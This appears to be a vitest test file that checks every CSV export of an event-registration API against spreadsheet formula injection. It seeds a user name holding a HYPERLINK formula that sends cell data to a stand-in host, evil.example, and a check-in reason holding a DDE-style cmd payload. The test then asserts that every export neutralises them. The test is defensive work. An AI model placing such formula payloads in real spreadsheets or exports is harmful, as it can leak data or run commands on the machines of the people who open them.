import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { categoryFees } from '../../src/db/schema/index';
import { createEvent, setPersonDetails } from '../event-factories';
import { createTenant, createUser, signInAs } from '../factories';
import { listEndpoints, type Endpoint, type OpenApiDocument } from '../fuzz/openapi-arbitraries';
import { createTestApp } from '../test-app';

/**
 * Class guard (issues 12 and 28): no CSV export hands a spreadsheet a formula. The CSV routes are
 * found by what they answer, not by a list: every GET route of the OpenAPI document is called as an
 * admin, and each one that answers `text/csv` is checked, so a new export is covered without
 * touching this file (and without having to declare `produces`). The data holds a member whose name
 * is a live formula, a check-in reason that is one, and a paid order, so each export has something
 * to neutralise.
 */
const FORMULA_START = /^[=+\-@\t\r;\uFF1D\uFF0B\uFF0D\uFF20]/;
const SLY_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Asha")';
const SLY_REASON = '@SUM(1+1)*cmd|" /C calc"!A0';

const harness = await createTestApp();
harness.clock.set('2026-07-02T06:00:00.000Z'); // 11:30 in Kolkata, an event day
const { app, database } = harness;
const tenant = await createTenant(database.db, { hostnames: ['csv-exports.test'] });
const { event, chessOpen } = await createEvent(database.db, tenant);
await database.db.insert(categoryFees).values({ eventSportCategoryId: chessOpen.id, tenantId: tenant.id, amountMinor: 100_000 });
const admin = await createUser(database.db, tenant.id, { role: 'admin' });
const adminToken = await signInAs(app, admin);
const sly = await createUser(database.db, tenant.id, { name: SLY_NAME });
await setPersonDetails(database.db, sly.id, { gender: 'female', dateOfBirth: '1990-01-01' });
const slyToken = await signInAs(app, sly);

const call = (method: 'GET' | 'POST', url: string, token: string, payload?: object) =>
  app.inject({ method, url, headers: { host: tenant.hostname, authorization: `Bearer ${token}` }, ...(payload ? { payload } : {}) });

afterAll(() => harness.close());

const registered = await call('POST', '/api/customer/registrations', slyToken, {
  eventId: event.id,
  entries: [{ eventSportCategoryId: chessOpen.id, mode: 'individual' }],
});
const { orderId } = registered.json().data.order as { orderId: string };
await call('POST', `/api/customer/orders/${orderId}/demo`, slyToken, { outcome: 'pay' });
const checkedIn = await call('POST', `/api/staff/events/${event.id}/checkins`, adminToken, {
  userId: sly.id,
  eventSportCategoryId: chessOpen.id,
  reason: SLY_REASON,
});

const openApi = (await app.inject({ method: 'GET', url: '/api/docs/openapi.json' })).json<OpenApiDocument>();
const PATH_VALUES: Record<string, string> = { eventId: String(event.id), orderId };
const urlOf = (endpoint: Endpoint) => endpoint.path.replace(/\{(\w+)\}/g, (_match, name: string) => PATH_VALUES[name] ?? '1');

/** Every GET route (live streams never end, so they are left out) that answers CSV to an admin. */
async function findCsvRoutes() {
  const found: { route: string; body: string }[] = [];
  for (const endpoint of listEndpoints(openApi).filter((one) => one.method === 'GET' && !one.path.endsWith('/stream'))) {
    const response = await call('GET', urlOf(endpoint), adminToken);
    if (String(response.headers['content-type']).startsWith('text/csv')) found.push({ route: endpoint.path, body: response.body });
  }
  return found;
}

describe('every CSV export', async () => {
  const csvRoutes = await findCsvRoutes();

  it('finds the CSV routes by what they answer, the admin orders export among them', () => {
    expect(registered.statusCode).toBe(201);
    expect(checkedIn.statusCode).toBe(200);
    expect(csvRoutes.map((one) => one.route)).toEqual(
      expect.arrayContaining([
        '/api/admin/payments/orders.csv',
        '/api/staff/events/{eventId}/attendance.csv',
        '/api/staff/events/{eventId}/registrations.csv',
      ]),
    );
  });

  it.each(csvRoutes.map((one) => [one.route, one] as const))('%s: no cell starts a formula; the sly name shows as text', (_route, one) => {
    const rows = parse(one.body, { bom: true, relax_column_count: true }) as string[][];
    const cells = rows.flat();
    expect(cells).toContain(`'${SLY_NAME}`);
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  });
});
